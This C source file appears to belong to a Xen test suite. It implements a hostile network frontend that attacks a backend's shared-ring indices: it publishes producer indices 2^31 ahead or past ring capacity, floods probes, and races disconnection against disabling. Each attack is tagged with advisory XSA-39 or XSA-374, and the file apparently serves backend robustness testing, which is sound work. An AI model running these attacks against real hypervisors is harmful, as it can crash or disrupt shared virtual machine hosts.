// SPDX-License-Identifier: GPL-2.0-or-later
/* Attacks on the rings' indices. See hostile.h. */
#include <errno.h>
#include <xen/io/xenbus.h>

#include "netback/netfront/hostile.h"

#define DISABLE_MS 10000u
#define ANSWER_MS 5000u
#define FAR 0x80000000u
#define PROBES_MAX 4096u
#define PROBES_BURST 16u
#define PROBES_MS 500u

/* Until the backend has seen it: the next request would take it back. */
static void await_end(struct xnf_hostile *one)
{
	(void)xnf_hostile_wait_disabled(one, DISABLE_MS);
}

/* Half the numbers ahead: the largest distance that there is. */
static void lead(struct xnf_hostile *one, uint32_t distance)
{
	struct netif_tx_sring *ring = one->raw.queue->tx_ring;

	/* From there on: a request that waits would be one of the distance. */
	(void)xnf_raw_wait(&one->raw, ANSWER_MS);
	xnb_index_publish(&ring->req_prod, one->raw.prod + distance);
	xnf_queue_kick_tx(one->raw.queue);
}

static int tx_index(struct xnf_hostile *one, struct xn_err *err)
{
	(void)err;
	lead(one, FAR);
	await_end(one);
	xnf_report(one, "lead", FAR);
	return 0;
}

/* One more than the ring holds. */
static int tx_overrun(struct xnf_hostile *one, struct xn_err *err)
{
	(void)err;
	lead(one, XNF_RING_SLOTS + 1);
	await_end(one);
	xnf_report(one, "lead", XNF_RING_SLOTS + 1);
	return 0;
}

/* A backend has no need to look before the buffers that it knows of are used
 * up: by answers to probes, which we do not take. */
static int rx_index(struct xnf_hostile *one, struct xn_err *err)
{
	struct xnf_queue *queue = one->raw.queue;
	struct netif_rx_sring *ring = queue->rx_ring;
	uint64_t probes = 0;

	(void)err;
	xnb_index_publish(&ring->req_prod, queue->rx.rsp_cons + FAR);
	xnf_queue_kick_rx(queue);
	while (probes < PROBES_MAX && !xnf_hostile_wait_disabled(one, 0)) {
		for (uint32_t i = 0; i < PROBES_BURST; i++)
			xnf_hostile_put_probe(one);
		xnf_raw_show(&one->raw);
		(void)xnf_raw_wait(&one->raw, PROBES_MS);
		probes += PROBES_BURST;
	}
	xnf_report(one, "lead", FAR);
	xnf_report(one, "probes", probes);
	return 0;
}

static int ctrl_index(struct xnf_hostile *one, struct xn_err *err)
{
	struct xnf_ctrl *ctrl = xnf_front_ctrl(one->front);

	if (!ctrl)
		return xn_fail(err, ENOTSUP, "the backend has no control ring");
	xnb_index_publish(&ctrl->ring->req_prod, ctrl->rsp_cons + FAR);
	(void)xenevtchn_notify(ctrl->evtchn, ctrl->port);
	xnf_report(one, "lead", FAR);
	return 0;
}

/* Gets itself disabled and, without waiting, closes as if nothing were; the
 * backend has both to do at once. */
static int rogue_close(struct xnf_hostile *one, struct xn_err *err)
{
	uint64_t disabled = 0;
	int rc = 0;

	for (uint64_t i = 0; !rc && i < xnf_hostile_count(one); i++) {
		if (i)
			rc = xnf_hostile_reconnect(one, err);
		if (rc)
			break;
		lead(one, FAR);
		(void)xnf_hostile_set_state(one, XenbusStateClosing);
		(void)xnf_hostile_set_state(one, XenbusStateClosed);
		disabled += xnf_hostile_wait_disabled(one, DISABLE_MS);
	}
	xnf_report(one, "rounds_disabled", disabled);
	return rc;
}

const struct xnf_attack xnf_attacks_index[] = {
	{.name = "tx-index",
	 .advisory = "XSA-39",
	 .what = "transmit requests 2^31 ahead",
	 .run = tx_index},
	{.name = "tx-overrun",
	 .advisory = "XSA-39",
	 .what = "one transmit request more than the ring holds",
	 .run = tx_overrun},
	{.name = "rx-index",
	 .advisory = "XSA-39",
	 .what = "receive requests 2^31 ahead",
	 .run = rx_index},
	{.name = "ctrl-index",
	 .advisory = "XSA-39",
	 .what = "control requests 2^31 ahead",
	 .run = ctrl_index,
	 .ctrl = true},
	{.name = "rogue-close",
	 .advisory = "XSA-374",
	 .what = "is disabled, and closes at the same time",
	 .run = rogue_close,
	 .count = 3},
	{.name = NULL},
};
